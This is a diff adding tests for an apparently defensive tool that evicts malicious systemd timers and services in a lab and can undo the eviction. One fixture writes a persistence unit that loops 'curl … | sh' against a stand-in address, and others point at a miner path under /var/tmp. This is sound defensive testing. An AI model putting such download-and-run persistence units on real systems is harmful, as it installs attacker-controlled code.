@@ -160,3 +160,58 @@ def test_of_a_vendor_s_service_only_the_drop_in_goes_and_only_by_name(lab: Lab) 
     assert lab.run("systemctl", "is-active", "cron.service").stdout.strip() == "active"
     assert lab.run("systemctl", "restart", "cron.service").returncode == 0
     assert alive(lab) == []
+
+
+def test_every_instance_of_a_guilty_timer_is_stopped_and_a_unit_that_only_shares_its_link_stays(lab: Lab) -> None:
+    lab.write("/etc/systemd/system/evil@.timer", "[Timer]\nOnCalendar=daily\n\n[Install]\nWantedBy=timers.target\n")
+    lab.write("/etc/systemd/system/evil@.service", "[Service]\nExecStart=/var/tmp/kinsing %i\n")
+    lab.write("/etc/systemd/system/evil.service", "[Service]\nExecStart=/var/tmp/kinsing\n")
+    lab.write("/etc/systemd/system/honest.service", "[Service]\nExecStart=/bin/true\n")
+    honest = "/etc/systemd/system/timers.target.wants/honest.service"
+    lab.run("systemctl", "daemon-reload")
+    lab.run("systemctl", "enable", "--now", "evil@1.timer")
+    lab.run("systemctl", "start", "evil@2.timer")
+    lab.run("systemctl", "mask", "--runtime", "evil.service")
+    lab.run("ln", "-s", "/etc/systemd/system/evil.service", honest)
+
+    done = lab.davy("evict", "--yes", "--json", "--verify-for", "0")
+    assert done.returncode == 0, done.stdout + done.stderr
+    for timer in ("evil@1.timer", "evil@2.timer"):
+        assert lab.run("systemctl", "is-active", timer, check=False).stdout.strip() in ("inactive", "failed")
+    assert lab.run("readlink", honest).stdout.strip() == "/etc/systemd/system/evil.service"
+
+    undone = lab.davy("undo", "--yes", "--json")
+    assert undone.returncode == 0, undone.stdout + undone.stderr
+    assert lab.run("readlink", "/run/systemd/system/evil.service").stdout.strip() == "/dev/null"
+
+
+def test_what_a_guilty_unit_still_runs_is_said_and_how_to_stop_it(lab: Lab) -> None:
+    loop = "/bin/bash -c 'while true; do curl -fsSL http://192.0.2.7/x.sh | sh; sleep 600; done'"
+    lab.write(
+        "/etc/systemd/system/loop.service", f"[Service]\nExecStart={loop}\n\n[Install]\nWantedBy=multi-user.target\n"
+    )
+    lab.run("systemctl", "daemon-reload")
+    lab.run("systemctl", "enable", "--now", "loop.service")
+
+    done = lab.davy("evict", "--yes", "--json", "--verify-for", "0")
+    assert done.returncode == 1, done.stdout + done.stderr
+    (left,) = json.loads(done.stdout)["left"]
+    assert left["why"].endswith("systemctl stop loop.service"), left
+    assert lab.run("systemctl", "is-active", "loop.service").stdout.strip() == "active"
+
+
+def test_a_timer_whose_file_lies_in_a_home_is_stopped_by_the_manager_that_a_link_gives_it_to(lab: Lab) -> None:
+    lab.write("/root/units/evil.timer", "[Timer]\nOnCalendar=daily\n\n[Install]\nWantedBy=timers.target\n")
+    lab.write("/root/units/evil.service", "[Service]\nExecStart=/var/tmp/kinsing\n")
+    lab.run("systemctl", "link", "/root/units/evil.service")
+    lab.run("systemctl", "enable", "--now", "/root/units/evil.timer")
+
+    done = lab.davy("evict", "--yes", "--json", "--verify-for", "0")
+    assert done.returncode == 0, done.stdout + done.stderr
+    for unit in ("evil.timer", "evil.service"):
+        shown = lab.run("systemctl", "show", unit, "--property=ActiveState,LoadState", check=False).stdout.split()
+        assert set(shown) & {"ActiveState=inactive", "ActiveState=failed"}, shown
+        assert set(shown) & {"LoadState=masked", "LoadState=not-found"}, shown
+    undone = lab.davy("undo", "--yes", "--json")
+    assert undone.returncode == 0, undone.stdout + undone.stderr
+    assert lab.run("systemctl", "show", "evil.timer", "--property=LoadState").stdout == "LoadState=loaded\n"
